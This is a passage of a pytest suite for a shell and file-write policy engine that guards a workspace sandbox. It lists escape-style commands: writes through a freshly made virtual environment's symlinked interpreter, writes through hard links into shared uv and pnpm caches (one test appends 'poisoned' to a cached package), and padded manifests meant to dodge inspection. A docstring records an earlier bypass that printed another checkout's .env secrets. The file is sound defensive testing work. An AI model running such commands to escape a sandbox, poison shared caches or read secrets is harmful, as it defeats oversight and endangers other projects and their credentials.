    assert out.stdout == "MARKER=rt13c\n"


# ---- (j) a virtual environment made in the line links bin/python out of the workspace ------------

VENV_LINES = [
    "python3 -m venv d; echo x > d/bin/python3", "python3 -m venv d && cp notes.md d/bin/python",
    "python3 -m venv d; truncate -s0 d/bin/python3", "python3 -m venv d; sed -i 1d d/bin/python3",
    "python3 -mvenv d; echo x > d/bin/python3", "python3 -I -m venv d; echo x > d/bin/python3",
    "python3 -m venv d; cd d/bin && echo x > python3", "python3 -m venv --clear d e; tee e/bin/python",
    "python -m venv d; dd of=d/bin/python conv=notrunc < notes.md", "python3.11 -m venv d; echo x >> d/bin/python",
    "uv venv d; echo x > d/bin/python", "uv venv; echo x > .venv/bin/python",
    "uv venv --seed d2 && cp notes.md d2/bin/python3", "virtualenv d; echo x > d/bin/python",
    "python3 -m venv d | tee d/bin/python3", "python3 -m venv d; rm d/bin/python3",
    "python3 -m venv d; install -m755 notes.md d/bin/python3", "python3 -m venv d; mv notes.md d/bin/python3",
    "python3 -m venv d; printf x > d/lib64/x", "(python3 -m venv d); echo x > d/bin/python3",
]  # fmt: skip


@pytest.mark.parametrize("command", VENV_LINES)
def test_write_into_a_venv_made_in_the_line(policy: Policy, env_ws: Path, command: str) -> None:
    assert _decide(policy, env_ws, command)[0] is not Verdict.ALLOW, command


@pytest.mark.parametrize(
    "command",
    ["python3 -m venv .venv", "uv venv", "python3 -m venv .venv && echo x > notes.md",
     "uv venv && uv pip install requests", "python -m venv .venv && .venv/bin/pip install requests",
     "python3 -m pytest; echo x > out.txt", "python3 -m venv --clear .venv"],
)  # fmt: skip
def test_venv_controls(policy: Policy, env_ws: Path, command: str) -> None:
    assert _decide(policy, env_ws, command)[0] is Verdict.ALLOW, command


def test_venv_python_links_out(tmp_path: Path) -> None:
    """What a fresh venv's bin/python3 is: a link to an interpreter out of the workspace."""
    python = shutil.which("python3")
    if python is None:
        pytest.skip("python3 is not installed")
    subprocess.run([python, "-m", "venv", "--without-pip", str(tmp_path / "d")], check=True)
    link = tmp_path / "d/bin/python3"
    assert link.is_symlink() and not str(link.resolve()).startswith(str(tmp_path))


# ---- (b, continued) what cannot be read is not taken as clean ------------------------------------


@pytest.mark.parametrize("command", ["npm install", "pnpm install", "yarn", "npm ci"])
def test_padded_package_json_asks(policy: Policy, proj: Path, command: str) -> None:
    doc = {"name": "d", "description": "a" * (300 << 10), "dependencies": {"e": "github:e/x"}}
    (proj / "package.json").write_text(json.dumps(doc))
    assert _decide(policy, proj, command) == (Verdict.ASK, "exec.packages.project-source")


@pytest.mark.parametrize("command", ["pip install .", "uv sync", "poetry install"])
def test_padded_pyproject_asks(policy: Policy, proj: Path, command: str) -> None:
    pad = "# " + "a" * (300 << 10) + "\n"
    (proj / "pyproject.toml").write_text(_pyproject(["e @ git+https://x.example/e"]) + pad)
    assert _decide(policy, proj, command)[0] is not Verdict.ALLOW, command


def test_workspace_globs_are_bounded(policy: Policy, proj: Path) -> None:
    """`workspaces: ["*/*/*/*"]` over a wide tree: bounded work, and not taken as clean."""
    for i in range(40):
        for j in range(40):
            (proj / f"d{i}" / f"e{j}").mkdir(parents=True)
    (proj / "package.json").write_text('{"name": "d", "workspaces": ["*/*/*/*"]}')
    start = time.monotonic()
    assert _decide(policy, proj, "npm install") == (Verdict.ASK, "exec.packages.project-source")
    assert time.monotonic() - start < 5


def test_large_monorepo_is_read(policy: Policy, proj: Path) -> None:
    for i in range(120):
        _write(
            proj,
            {
                f"packages/p{i}/package.json": json.dumps(
                    {"name": f"p{i}", "dependencies": {"x": "^1"}}
                )
            },
        )
    (proj / "package.json").write_text('{"name": "d", "workspaces": ["packages/*"]}')
    assert _decide(policy, proj, "npm install")[0] is Verdict.ALLOW
    _write(proj, {"packages/p77/package.json": '{"name": "p77", "dependencies": {"e": "e/x"}}'})
    assert _decide(policy, proj, "npm install")[0] is Verdict.ASK


# ---- (k) hard links out of the workspace (package caches) -----------------------------------------


@pytest.fixture()
def cached(tmp_path: Path) -> Path:
    """A workspace whose .venv and node_modules files are hard links into caches outside it,
    as uv (link mode `hardlink` on Linux) and pnpm (package-import-method) install them."""
    cache = tmp_path / "cache"
    root = tmp_path / "ws"
    _write(cache, {"uv/requests/__init__.py": "orig\n", "pnpm/lodash/index.js": "orig\n",
                   "other/x.txt": "orig\n"})  # fmt: skip
    _write(root, {"notes.md": "x\n", "src/own.py": "x\n"})
    for src, dst in [
        ("uv/requests/__init__.py", ".venv/lib/python3.11/site-packages/requests/__init__.py"),
        ("pnpm/lodash/index.js", "node_modules/.pnpm/lodash@4/node_modules/lodash/index.js"),
        ("other/x.txt", "src/linked.txt"),
    ]:
        (root / dst).parent.mkdir(parents=True, exist_ok=True)
        os.link(cache / src, root / dst)
    os.link(root / "src/own.py", root / "src/own_twin.py")  # both names inside: not out
    return root


LINKED_OUT = [
    ".venv/lib/python3.11/site-packages/requests/__init__.py",
    "node_modules/.pnpm/lodash@4/node_modules/lodash/index.js",
    "src/linked.txt",
]
OUT_WRITES = ["echo x >> {}", "echo x > {}", "cp notes.md {}", "tee -a {} < notes.md",
              "truncate -s 0 {}", "printf x | dd of={} conv=notrunc", "sort -o {} notes.md"]  # fmt: skip


@pytest.mark.parametrize("rel", LINKED_OUT)
@pytest.mark.parametrize("shape", OUT_WRITES)
def test_write_through_a_hard_link_out(policy: Policy, cached: Path, rel: str, shape: str) -> None:
    verdict, rule = _decide(policy, cached, shape.format(rel))
    assert (verdict, rule) == (Verdict.DENY, "exec.write-outside-workspace"), (shape, rel)


@pytest.mark.parametrize("rel", LINKED_OUT)
def test_file_tool_write_through_a_hard_link_out(policy: Policy, cached: Path, rel: str) -> None:
    assert _file(policy, cached, "write", rel) == (Verdict.DENY, "file.outside-workspace")


@pytest.mark.parametrize(
    "command",
    ["echo x >> src/own.py", "echo x >> src/own_twin.py", "echo x >> notes.md",
     "rm src/linked.txt", "cat .venv/lib/python3.11/site-packages/requests/__init__.py"],
)  # fmt: skip
def test_hard_link_out_controls(policy: Policy, cached: Path, command: str) -> None:
    assert _decide(policy, cached, command)[0] is Verdict.ALLOW, command


def test_hard_link_out_read_outside_a_vendor_directory(policy: Policy, cached: Path) -> None:
    """Reading a hard link out was a control here; since the twenty-ninth pass a file whose
    inode has names outside the workspace reads as outside (a hard link of another checkout's
    ``.env`` was printed), unless it is world-readable in a vendor directory (uv, pnpm)."""
    assert _decide(policy, cached, "cat src/linked.txt")[0] is Verdict.DENY


def test_hard_link_out_by_effect(cached: Path) -> None:
    """What the decision prevents: the write lands in the cache every project installs from."""
    target = cached / ".venv/lib/python3.11/site-packages/requests/__init__.py"
    with open(target, "a") as fh:
        fh.write("poisoned\n")
    assert (cached.parent / "cache/uv/requests/__init__.py").read_text() == "orig\npoisoned\n"
